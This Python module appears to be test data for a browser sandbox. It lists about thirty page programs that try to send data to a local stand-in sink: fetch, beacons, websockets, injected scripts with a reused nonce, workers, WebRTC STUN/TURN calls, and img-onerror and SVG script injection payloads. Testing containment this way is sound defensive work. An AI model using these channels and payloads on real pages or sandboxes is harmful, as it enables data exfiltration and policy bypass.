"""What programs of a page can ask for: requests, channels, workers, calls between browsers."""

from __future__ import annotations

from escapes.browser.page import PageAttempt as Page

_CALL = (
    "const p = new RTCPeerConnection({iceServers: [%s]}); window.kept = p; p.createDataChannel('d'); "
    "await p.setLocalDescription(await p.createOffer())"
)
_WORKER = "window.kept = new Worker(URL.createObjectURL(new Blob([`%s`])))"
PROGRAMS = (
    Page(name="fetch", click="fetch(SINK + '/?d=1')", decisive=True),
    Page(name="fetch without sharing", click="fetch(SINK + '/?d=1', {mode: 'no-cors'})"),
    Page(
        name="fetch that outlives the page",
        click="fetch(SINK, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'd'})",
    ),
    Page(name="XMLHttpRequest", click="const x = new XMLHttpRequest(); x.open('GET', SINK); x.send()"),
    Page(name="a beacon", click="navigator.sendBeacon(SINK + '/b', 'd')", decisive=True),
    Page(name="a stream of events", click="window.kept = new EventSource(SINK + '/e')"),
    Page(name="a websocket", click="window.kept = new WebSocket('ws://sink.localhost:' + PORT)", decisive=True),
    Page(name="a module", click="import(SINK + '/m.js')"),
    Page(
        name="a script",
        click="const s = document.createElement('script'); s.src = SINK + '/s.js'; document.body.append(s)",
        decisive=True,
    ),
    Page(
        name="a script that is put in place and says the door's word",
        click="const s = document.createElement('script'); s.nonce = 'datalab'; s.setAttribute('nonce', 'datalab'); "
        "s.src = SINK + '/s.js'; document.body.append(s)",
        decisive=True,
    ),
    Page(name="a picture that is never shown", click="new Image().src = SINK + '/?d=1'", decisive=True),
    Page(name="a worker that asks", click=_WORKER % "fetch('${SINK}/w', {mode: 'no-cors'})", decisive=True),
    Page(name="a worker that loads a script", click=_WORKER % "importScripts('${SINK}/w.js')"),
    Page(name="a worker with a websocket", click=_WORKER % "new WebSocket('ws://sink.localhost:${PORT}')"),
    Page(
        name="a worker within a worker",
        click=_WORKER % "new Worker(URL.createObjectURL(new Blob([\"fetch('${SINK}/n', {mode: 'no-cors'})\"])))",
    ),
    Page(
        name="a shared worker",
        click="window.kept = new SharedWorker(URL.createObjectURL(new Blob([`fetch('${SINK}/w', {mode: 'no-cors'})`])))",  # noqa: E501 - a page as one text
    ),
    Page(name="a worker's own page that asks", click="window.kept = new Worker('../../static/lab/worker.js?' + NAME)"),
    Page(
        name="a service worker",
        click="await navigator.serviceWorker.register('../../static/lab/worker.js?' + NAME)",
        decisive=True,
    ),
    Page(name="a worklet for sound", click="new AudioContext().audioWorklet.addModule(SINK + '/a.js')"),
    Page(name="a worklet for paint", click="CSS.paintWorklet.addModule(SINK + '/p.js')", chromium_only=True),
    Page(name="a call by STUN", click=_CALL % "{urls: 'stun:127.0.0.1:' + PORT}", chromium_only=True, decisive=True),
    Page(
        name="a call by TURN over TCP",
        click=_CALL % "{urls: 'turn:127.0.0.1:' + PORT + '?transport=tcp', username: 'secret', credential: 'x'}",
    ),
    Page(
        name="a call from an empty frame",
        click="const f = document.createElement('iframe'); document.body.append(f); const RTCPeerConnection = f.contentWindow.RTCPeerConnection; "  # noqa: E501 - a page as one text
        + _CALL % "{urls: 'stun:127.0.0.1:' + PORT}",
    ),
    Page(name="a font of a program", click="new FontFace('x', `url(${SINK}/f.woff2)`).load()"),
    Page(name="a style of a program", click="document.body.style.background = `url(${SINK}/b)`"),
    Page(
        name="a script in a notebook's output",
        body="<img src='x:' onerror=\"new Image().src='@SINK@/html'\">",
        decisive=True,
    ),
    Page(name="a script in a drawing", body="<svg><script>new Image().src = '@SINK@/svg'</script></svg>"),
    Page(name="a drawing that loads", body="<svg onload=\"new Image().src='@SINK@/load'\"></svg>"),
)
